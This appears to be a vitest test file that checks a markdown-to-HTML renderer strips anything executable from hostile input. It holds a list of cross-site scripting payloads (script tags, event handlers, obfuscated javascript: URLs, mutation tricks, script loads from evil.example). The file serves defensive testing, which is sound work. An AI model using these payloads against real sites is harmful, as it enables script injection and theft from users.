/** Nothing that could run comes out of hostile input, however it is spelled. */

import type { Element, Nodes } from 'hast'
import { fromHtml } from 'hast-util-from-html'
import remarkGfm from 'remark-gfm'
import remarkParse from 'remark-parse'
import { unified } from 'unified'
import { describe, expect, test } from 'vitest'
import { html } from '../src/targets/html/index.ts'
import { toHtmlBody } from '../src/targets/shared/html/body.ts'
import { resolveHtml } from '../src/targets/shared/plain-html.ts'
import { node } from './support/every-block.ts'
import { context, render, renderPage } from './support/html-context.ts'
import { writeBlocks } from './support/write-blocks.ts'

const parser = unified().use(remarkParse).use(remarkGfm)

const written = (source: string): string => {
  const tree = resolveHtml(parser.parse(source), 'x.md', () => {})
  return toHtmlBody(writeBlocks(tree, html, context()), { html: 'safe' })
}

const allowedNames =
  /^(?:a|aside|audio|blockquote|br|code|del|details|div|em|figcaption|figure|h[1-6]|hr|img|input|kbd|li|mark|ol|p|picture|pre|section|small|source|span|strong|sub|summary|sup|table|tbody|td|th|thead|tr|u|ul|video)$/
const allowedScheme = /^(?:https?|mailto):|^data:image\/|^[^:]*$|^[^:]*[/?#]/i

/** Reads the output as a browser does and looks at each element and attribute. */
function expectHarmless(output: string): void {
  const visit = (current: Nodes): void => {
    if (current.type === 'element') checkElement(current)
    if ('children' in current) for (const child of current.children) visit(child)
  }
  visit(fromHtml(output, { fragment: true }))
}

function checkElement({ tagName, properties }: Element): void {
  expect(tagName).toMatch(allowedNames)
  for (const [name, value] of Object.entries(properties)) {
    expect(name).not.toMatch(/^on|^style$|^srcDoc$|^formAction$/i)
    if (['href', 'src', 'srcSet', 'xLinkHref', 'poster'].includes(name))
      expect(String(value).replace(/[\s\p{Cc}]/gu, '')).toMatch(allowedScheme)
  }
}

const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" ONERROR = "alert(1)"/>',
  '<img/src=x/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" jAvAsCrIpT:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="java&Tab;script&colon;alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '[x](javascript:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#x6A;avascript:alert(1))',
  '![x](javascript:alert(1))',
  '![x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"><embed src="y.swf"></object>',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
  '<style>@import url(//evil.example)</style><p style="background:url(javascript:x)">x</p>',
  '<link rel=stylesheet href="//evil.example"><meta http-equiv=refresh content="0;url=javascript:alert(1)"><base href="//evil.example">',
  '<div onclick="alert(1)">\n\ntext\n\n</div>',
  '<details ontoggle=alert(1) open><summary>x</summary></details>',
  '<table background="javascript:x"><tr><td onmouseover=alert(1)>x</td></tr></table>',
  '<video src="javascript:x" onerror=alert(1)><source src="javascript:y"></video>',
  '<p title="x" <script>alert(1)</script>',
  '<<b>script>alert(1)<</b>/script>',
  '<b <script>alert(1)</script>>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php <script>alert(1)</script> ?>',
  '<textarea></textarea><script>alert(1)</script>',
  '<xmp><script>alert(1)</script></xmp>',
  '<template><img src=x onerror=alert(1)></template>',
  '`<script>` and <T onclick=alert(1)>x</T>',
  '<a href="x" href="javascript:alert(1)">x</a>',
  '<img srcset="javascript:x 1x" src="y.png">',
  '```"><script>alert(1)</script>\nx\n```',
  '<h2 id="x&quot; onclick=&quot;alert(1)">x</h2>',
]

describe('harmless', () => {
  test.each(hostile)('%s', (source) => {
    expectHarmless(written(source))
    expectHarmless(written(`- text ${source}\n\n| ${source.replaceAll('\n', ' ')} |\n| - |\n`))
  })
})

test('HTML that nobody took out of the tree is text', () => {
  expectHarmless(toHtmlBody(parser.parse(hostile.join('\n\n')), { html: 'safe' }))
})

test('addresses of blocks pass the same door', () => {
  const url = 'java\nscript:alert(1)'
  const blocks = [
    node('button', { href: url }, [{ type: 'text', value: 'x' }]),
    node('embed', { url }),
    node('embed', { data: JSON.stringify({ url }) }),
    node('file', { src: url }),
    node('contentRef', { url }),
    node('mention', { url }),
    node('picture', { src: url, srcDark: url }),
    node('openapi', { src: url }),
  ]
  expectHarmless(render(blocks))
  expect(
    render([node('contentRef', { url }, [{ type: 'paragraph', children: [{ type: 'text', value: 'The pier' }] }])]),
  ).toContain('The pier')
})

test('the page around it quotes what it is given', () => {
  const page = renderPage([], {
    title: '</title><script>alert(1)</script>',
    description: '"><script>',
    cover: 'javascript:x',
    frontMatter: { metaLinks: { canonical: 'javascript:x' }, tags: ['<b>'] },
  })
  expect(page).not.toMatch(/<script|javascript:|<b>/)
})

test('trusted HTML comes through as it is', () => {
  expect(toHtmlBody(parser.parse('<script>x</script>\n\n<b onclick="y">z</b>'), { html: 'trusted' })).toBe(
    '<script>x</script>\n<p><b onclick="y">z</b></p>',
  )
})
